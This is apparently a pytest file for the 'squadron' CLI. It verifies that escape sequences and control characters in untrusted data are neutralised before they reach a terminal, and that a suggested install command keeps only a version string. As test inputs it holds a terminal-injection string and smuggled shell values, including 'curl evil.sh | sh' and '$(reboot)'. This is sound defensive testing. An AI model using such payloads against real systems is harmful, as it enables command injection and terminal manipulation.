"""What anybody may have written, through each command that shows it: a terminal is told nothing by it."""

from __future__ import annotations

import contextlib
import io
import json
import re
import sys
from collections.abc import AsyncIterator, Sequence
from dataclasses import MISSING, fields
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import structlog

from squadron.actors.runs.shelf import CallView, RoundView, RunInfo, RunView
from squadron.actors.runs.timeline import Lane, Timeline
from squadron.bridge.audit.chain import Flaw
from squadron.bridge.audit.history import Verified
from squadron.bridge.health.agent_checks import check_releases
from squadron.bridge.health.diagnosis import Diagnosis
from squadron.bridge.health.facts import ReplicaFacts
from squadron.cli import doctor, frame
from squadron.cli.app import app
from squadron.cli.frame import SPACES
from squadron.cli.progress import _Pane, _PlainLines
from squadron.client.remote_servers import RemoteServer
from squadron.runtime import logs
from squadron.runtime.asking.answering import OpenQuestion, QuestionNews
from squadron.runtime.errors import ConfigError
from squadron.runtime.lite.listing import LiteInfo
from squadron.runtime.lite.reader import LiteMessage
from squadron.runtime.store.dead_letters import DeadLetter
from squadron.runtime.streams.writer import Chunk
from squadron.runtime.wire.envelope import LAST_MS, AgentIdentity, AgentMessage
from squadron.runtime.wire.outcome import Failed, Result
from squadron.runtime.wire.question import Proposal, Question, Reply
from squadron.runtime.wire.topics import ScoredTopic, SemanticTopic, TopicList
from squadron.views.passing import Passing

#: Clears the screen, sets a title, colours by C1, erases, turns the direction, is no markup; and words of people.
EVIL = "a\x1b[2J\x1b]0;t\x07\x9b31m\x00\x08\x0b\x7f\x85\r\u202e[/x]b\xa0ünï"
SCHEMA = {
    "type": "object",
    "properties": {"a": {"type": "string", "description": EVIL, "examples": [EVIL], "title": EVIL}},
    "required": ["a"],
}


class Tty(io.TextIOWrapper):
    """A terminal, and what it was sent."""

    def __init__(self) -> None:
        super().__init__(io.BytesIO(), encoding="utf-8", errors="replace", write_through=True)

    def isatty(self) -> bool:
        return True

    @property
    def seen(self) -> str:
        assert isinstance(self.buffer, io.BytesIO)
        return self.buffer.getvalue().decode()


class Pipe(Tty):
    """The same, but a pipe."""

    def isatty(self) -> bool:
        return False


def obeyed(text: str) -> set[str]:
    return {each for each in text if not (each.isprintable() or each in "\n\t" or each in SPACES)}


def evil(kind: Any, /, **given: Any) -> Any:
    """One of these whose texts are all of the worst kind."""
    worst: dict[str, Any] = {"str": EVIL, "float": 1.0, "int": 1}
    for each in fields(kind):
        if each.name not in given and (each.type in worst or each.default is MISSING is each.default_factory):
            given[each.name] = worst.get(str(each.type), EVIL)
    return kind(**given)


async def each_of(*items: Any) -> AsyncIterator[Any]:
    for item in items:
        yield item


def message(content: Any) -> bytes:
    return AgentMessage.new("task", AgentIdentity(id=EVIL), content).encode()


class Listened(list[Any]):
    """What passes, and then nothing more."""

    async def __aenter__(self) -> Any:
        return self

    async def __aexit__(self, *_: object) -> None: ...

    async def __aiter__(self) -> AsyncIterator[Any]:
        yield self[0]

    def ready(self, _: int) -> Sequence[Any]:
        return self[1:]


class ReadAll:
    """A lite topic that is over."""

    end = SimpleNamespace(reason=EVIL, missed=False)

    def __init__(self, *messages: LiteMessage) -> None:
        self._messages = messages

    def read(self, *_: object, **__: object) -> Any:
        return contextlib.nullcontext(self)

    def __aiter__(self) -> AsyncIterator[Any]:
        return each_of(*self._messages)


class Task:
    """A task that emits, and ends."""

    def __init__(self, outcome: Any) -> None:
        self._outcome = outcome

    def events(self) -> AsyncIterator[Any]:
        return each_of(Chunk(EVIL, 0, 1, 1), Chunk({"a": EVIL}, 1, 1, 1))

    async def outcome(self) -> Any:
        return self._outcome


def asked() -> list[OpenQuestion]:
    schema = {**SCHEMA, "properties": {"a": {"type": "string", "description": EVIL, "default": EVIL}}}
    proposal = Proposal(EVIL, {"to": EVIL}, {"type": "object"})
    both = (
        Question(message=EVIL, schema=schema, deadline_ms=2_000_000_000_000),
        # Until a time that has no date.
        Question.approval(proposal, deadline_ms=LAST_MS),
    )
    return [evil(OpenQuestion, question=each) for each in both]


def run_view() -> RunView:
    call = evil(CallView, seconds=1.0, outcomes={"failed": 1}, answered_by=EVIL, runs=())
    thought = evil(RoundView, calls=(call,), failed=(EVIL,))
    info = evil(RunInfo)
    return evil(RunView, info=info, answer={"answer": EVIL}, rounds=(thought,), error="")  # type: ignore[no-any-return]


class WorstSquad:
    """A squad in which all is as bad as can be."""

    settings = SimpleNamespace(heartbeat_s=0.1, env="dev")

    def __init__(self) -> None:
        topic = SemanticTopic(name="text.a", description=EVIL, input_schema=SCHEMA, examples=(EVIL,), tags=("a",))
        self._topics = TopicList([ScoredTopic(topic=topic, agent="a", score=0.5, why=(EVIL,))])
        self.failed = False
        self.dead_letters = SimpleNamespace(list=self._letters, show=self._letter)
        recording = SimpleNamespace(to_jsonl=lambda: json.dumps({"a": EVIL}, ensure_ascii=False) + "\n")
        self.runs = SimpleNamespace(
            list=self._runs, show=self._answers(run_view()), trace=self._answers((self._timeline(), None)),
            export=self._answers(recording),
        )  # fmt: skip
        found = Verified(1, 2, 0, 1, (evil(Flaw),), (EVIL,))
        self.audit = SimpleNamespace(
            query=self._records, follow=self._records, verify=self._answers(found), export=self._export,
            status=self._answers({"mode": EVIL}),
        )  # fmt: skip

    @staticmethod
    def _answers(value: Any) -> Any:
        async def answer(*_: object, **__: object) -> Any:
            return value

        return answer

    @staticmethod
    def _timeline() -> Timeline:
        return Timeline(EVIL, 0.0, 2.0, (Lane("call", EVIL, note=EVIL),))

    async def _letters(self, **_: object) -> list[DeadLetter]:
        return [evil(DeadLetter, subject="agents.dev.task.text.a", message=EVIL.encode())]

    async def _letter(self, *_: object, **__: object) -> DeadLetter:
        return (await self._letters())[0]

    async def _runs(self, **_: object) -> Any:
        class Found(list[Any]):
            left_out = 0

        return Found([evil(RunInfo)])

    def _records(self, **_: object) -> AsyncIterator[Any]:
        said = {"n": 1, "at": 1.0, "kind": "task", "subject": f"agents.dev.{EVIL}", "source": EVIL}
        done = {"n": 2, "at": 1.0, "kind": "action", "action": {"verb": EVIL, "on": EVIL, "error": EVIL}}
        return each_of(said, done)

    async def _export(self, file: Any, _: str) -> int:
        return int(file.write(json.dumps({"a": EVIL}, ensure_ascii=False).encode() + b"\n"))

    def topics(self) -> Any:
        return self._topics

    async def search(self, *_: object, **__: object) -> Any:
        return self._topics

    async def lessons(self, *_: object, **__: object) -> Any:
        return {"text.a": [{"intent": EVIL, "weight": 1.0, "by": {EVIL: 1}}]}

    async def track(self, _: str) -> Any:
        return {"agents": {"a": {"outcomes": {EVIL: 1}, "usd": 0.0, "replicas": 1}}}

    async def status(self) -> Any:
        facts = {"status": "DEPLOYING", "running": 0, "target": 1, "scale": "1", "waiting": 1, "taken": 0}
        canary = {"version": EVIL, "weight": 1, "status": "RUNNING", "running": 1, "target": 1, "message": EVIL}
        canary |= {"outcomes": {EVIL: 1}, "stable_outcomes": {}, "promoted": False}
        named = {"agent": "a", "group": "", "topics": [EVIL], "message": EVIL, "version": EVIL, "canary": canary}
        return {"environment": "dev", "nats": EVIL, "agents": [facts | named]}

    async def remote_servers(self) -> Any:
        kinds = {"McpAgent": {"command": EVIL, "args": [EVIL]}, "A2aAgent": {"url": EVIL}, "SynadiaRemote": {}}
        kinds |= {"GatewayAgent": {"doors": ["mcp"], "port": 1, "public_url": EVIL}}
        return [RemoteServer(EVIL, kind, server, (EVIL,)) for kind, server in kinds.items()]

    async def nodes(self) -> Any:
        has = {"CPU": 1, EVIL: 1}
        node = {"name": EVIL, "address": EVIL, "alive": True, "head": True, "has": has, "free": {}}
        return [node | {"replicas": {EVIL: 1}}]

    async def metrics(self) -> str:
        return f"# {EVIL}\n"

    async def questions(self) -> Any:
        return asked()

    def follow_questions(self) -> Any:
        reply = Reply("accept", {"a": EVIL}, EVIL)
        first, second = asked()
        news = (
            QuestionNews("asked", first),
            QuestionNews("asked", second),
            QuestionNews("answered", first, reply),
        )
        return each_of(*news)

    async def lite_topics(self, *_: object, **__: object) -> Any:
        return [evil(LiteInfo)]

    def lite(self, *_: object) -> Any:
        told = (message(EVIL), message({"a": EVIL}), EVIL.encode())
        return ReadAll(*(LiteMessage(seq, 1.0, data) for seq, data in enumerate(told, 1)))

    async def listen(self, **_: object) -> Any:
        passing = evil(Passing, kind="task", content={"a": EVIL})
        return Listened([passing, evil(Passing, kind="result", outcome=EVIL)])

    async def submit(self, *_: object, **__: object) -> Any:
        return Task(await self.negotiate())

    async def negotiate(self, *_: object, **__: object) -> Any:
        if self.failed:
            return Failed(task_id=EVIL, reason=EVIL, topic=EVIL, source=EVIL)
        return Result(task_id=EVIL, data=EVIL, topic=EVIL, source=EVIL)


@pytest.fixture
def worst(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> WorstSquad:
    squad = WorstSquad()

    @contextlib.asynccontextmanager
    async def connected(_: object) -> AsyncIterator[Any]:
        yield squad

    async def found(_: object) -> Any:
        return [Diagnosis("releases", "warn", EVIL, EVIL)]

    monkeypatch.setattr(frame, "connected", connected)
    monkeypatch.setattr(doctor, "_settings", found)
    monkeypatch.setenv("SQUADRON_HOME", str(tmp_path))
    # Of Rich itself there are no colours then.
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.setenv("COLUMNS", "100")
    return squad


SHOWN = [
    "doctor", "topics", "topics -s x", "topics show text.a", "topics why x", "topics why text.a", "asks",
    "asks --follow", "dlq list", "dlq show a", "runs list", "runs show a", "trace a", "lite list", "lite read a/b",
    "tail -n 2", "tail -n 2 --contents", "audit query", "audit tail", "audit verify", "audit status", "status",
    "nodes", "mcp list", "a2a list", "synadia list", "ask text.a a=1", "ask text.a a=1 --stream",
    "negotiate text.a --field a=1", "canary a",
]  # fmt: skip


def go(*arguments: str, kind: type[Tty] = Tty) -> tuple[str, str]:
    """What a command prints on stdout and on stderr."""
    out, err = kind(), kind()
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(sys, "stdout", out)
        patched.setattr(sys, "stderr", err)
        with pytest.raises(SystemExit) as ended:
            app(list(arguments))
    assert ended.value.code in (0, 1), err.seen
    assert "this is a bug" not in err.seen
    return out.seen, err.seen


@pytest.mark.parametrize("command", SHOWN)
@pytest.mark.parametrize("more", [[], ["--json"]])
@pytest.mark.parametrize("failed", [False, True])
def test_no_command_shows_a_terminal_what_it_would_obey(
    worst: WorstSquad, command: str, more: list[str], failed: bool
) -> None:
    worst.failed = failed

    out, err = go(*command.split(), *more)

    assert obeyed(out + err) == set()
    # It was there, and is told.
    assert "\\x1b[2J" in out + err or "\\u001b[2J" in out + err


@pytest.mark.parametrize(
    "command", ["topics show text.a --openapi", "runs export a --out -", "audit export", "metrics"]
)
def test_nor_does_one_that_writes_data(worst: WorstSquad, command: str) -> None:
    out, err = go(*command.split())

    assert out
    assert obeyed(out + err) == set()


@pytest.mark.parametrize("command", [each for each in SHOWN if not each.startswith(("ask text", "negotiate"))])
def test_a_pipe_may_lead_to_a_terminal(worst: WorstSquad, command: str) -> None:
    out, err = go(*command.split(), kind=Pipe)

    assert obeyed(out + err) == set()


def test_what_was_asked_for_goes_into_a_pipe_as_it_is(worst: WorstSquad) -> None:
    out, _ = go("ask", "text.a", "a=1", kind=Pipe)

    assert out == EVIL + "\n"


@pytest.mark.parametrize("kind", [Tty, Pipe])
def test_json_says_the_same_with_all_of_it_escaped(worst: WorstSquad, kind: type[Tty]) -> None:
    out, _ = go("ask", "text.a", "a=1", "--json", kind=kind)

    assert obeyed(out) == set()
    assert "ünï" in out
    assert json.loads(out)["data"] == EVIL


@pytest.mark.parametrize(
    "command", ["ask text.a a=1", "ask text.a a=1 --json", "audit query --json", "audit status --json"]
)
def test_json_is_json_whatever_number_was_sent(
    worst: WorstSquad, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    sent = {"n": 1, "all": json.loads("[NaN, 1e400, -Infinity, 0.5]")}
    monkeypatch.setattr(worst, "negotiate", worst._answers(Result(data=sent)))
    worst.audit.query, worst.audit.status = lambda **_: each_of(sent), worst._answers(sent)

    out, _ = go(*command.split(), kind=Pipe)

    told = json.loads(out, parse_constant=pytest.fail)
    assert told.get("data", told) == {"n": 1, "all": [None, None, None, 0.5]}


def test_an_error_and_a_job_under_way_are_told_so_too(monkeypatch: pytest.MonkeyPatch) -> None:
    err = Tty()
    monkeypatch.setattr(sys, "stderr", err)
    monkeypatch.setenv("TERM", "dumb")
    events = [
        {"event": "started", "run": EVIL, "model": EVIL},
        {"event": "try_failed", "round": 1, "model": EVIL, "number": 1, "reason": EVIL},
        {"event": "thought", "round": 1, "seconds": 0.1, "text": EVIL},
        {"event": "dispatched", "call": "c", "round": 1, "topic": EVIL, "tasks": 1},
        {"event": "outcome", "call": "c", "kind": EVIL, "reason": EVIL},
    ]
    for watch in (_PlainLines(EVIL), _Pane(EVIL)):
        watch.phase("run")
        for event in events:
            watch.event(event)

    frame.err().print(watch)
    frame.complain(ConfigError(EVIL, hint=EVIL))

    assert "try 1: a\\x1b[2J" in err.seen
    assert obeyed(err.seen) == set()


def test_so_is_what_a_program_of_ours_logs(monkeypatch: pytest.MonkeyPatch) -> None:
    err = Tty()
    monkeypatch.setattr(sys, "stderr", err)
    # It is for whole processes.
    monkeypatch.setattr(logs, "_scrub_others", lambda: None)
    logs.configure_logs("INFO")
    try:
        structlog.get_logger().info("agent.failed", agent="a\x1b[2J\x9b", error=[EVIL])
    finally:
        structlog.reset_defaults()

    # The colours are ours.
    seen = re.sub("\x1b\\[[0-9;]*m", "", err.seen)
    assert seen.count("\\x1b[2J") == 2
    assert obeyed(seen) == set()


def test_a_line_to_paste_names_nothing_but_a_version() -> None:
    def suggested(*releases: str) -> str:
        replicas = [ReplicaFacts("a", "a-1", 0.0, 0.0, 0.0, release=each) for each in releases]
        facts: Any = SimpleNamespace(replicas=replicas, bridge={}, release="0.2.0")
        (found,) = check_releases(facts)
        return found.fix

    assert suggested('9"; curl evil.sh | sh; "') == 'pip install "squadron-ray" everywhere, then squadron up'
    assert suggested("0.1.0", "9$(reboot)") == 'pip install "squadron-ray==0.1.0" everywhere, then squadron up'
